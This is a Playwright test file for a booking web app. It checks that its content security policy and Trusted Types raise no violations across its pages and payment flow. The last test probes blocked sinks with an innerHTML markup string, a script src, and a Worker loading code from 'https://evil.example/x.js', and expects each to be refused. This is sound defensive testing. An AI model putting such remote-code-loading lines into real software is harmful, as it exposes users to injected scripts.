import type { Page } from '@playwright/test'
import { CARDS, cardForm, expect, fillContact, holdOne, isLive, payWith, test } from './product.ts'

/** SHA-256 of the style that Kit's own route announcer would carry, were it not taken out at build (web/withoutInlineStyle.ts). */
const ANNOUNCER = 'svelte-announcer'

/** Whatever the content security policy or Trusted Types refuse on this page and its workers, from the first script on. */
const watch = async (page: Page): Promise<string[]> => {
  const refused: string[] = []
  await page.exposeFunction('tellRefused', (what: string) => refused.push(what))
  await page.addInitScript(() => {
    document.addEventListener('securitypolicyviolation', (event) => {
      const tell = (globalThis as unknown as { tellRefused(what: string): void }).tellRefused
      tell(`${event.effectiveDirective} ${event.blockedURI} ${event.sample} on ${location.pathname}`)
    })
  })
  page.on('console', (message) => {
    if (/content security policy|trusted(type| type)/i.test(message.text())) refused.push(message.text())
  })
  return refused
}
const others = (refused: string[]): string[] => refused.filter((what) => !what.includes(ANNOUNCER))

const PAGES = ['/', '/es', '/experiences', '/experiences?q=kayak', '/bookings', '/nowhere', '/offline', '/dev/inbox']

test('no page asks for what its policy refuses', async ({ page }) => {
  const refused = await watch(page)
  for (const path of [...PAGES, '/account/security', '/account/connections', '/account/sign-in/second']) {
    await page.goto(path, { waitUntil: 'networkidle' })
    expect(others(refused), path).toEqual([])
  }
})

test('map, live rooms, card frame and service worker work under the policy, and nothing is refused', async ({
  page,
  trip,
}) => {
  const refused = await watch(page)
  await page.goto('/experiences?view=map&place=merida')
  await page.locator('canvas.maplibregl-canvas').first().scrollIntoViewIfNeeded({ timeout: 15_000 })
  await page.goto(trip.path)
  await isLive(page)
  await page.evaluate(async () => (await navigator.serviceWorker.ready).active !== null)
  await holdOne(page, trip)
  await fillContact(page)
  await expect(cardForm(page).getByLabel('Card number')).toBeVisible()
  await payWith(page, CARDS.good)
  await page.waitForURL('**/bookings/**')
  expect(others(refused)).toEqual([])
})

test('text that would become markup or code is refused by Trusted Types', async ({ page }) => {
  await page.goto('/')
  const said = await page.evaluate(() => {
    const attempt = (work: () => void): string => {
      try {
        work()
        return 'done'
      } catch (error) {
        return (error as Error).name
      }
    }
    return [
      attempt(() => (document.createElement('p').innerHTML = '<b>x</b>')),
      attempt(() => (document.createElement('script').src = '/_app/x.js')),
      attempt(() => new Worker('https://evil.example/x.js')),
    ]
  })
  expect(said).toEqual(['TypeError', 'TypeError', 'TypeError'])
})
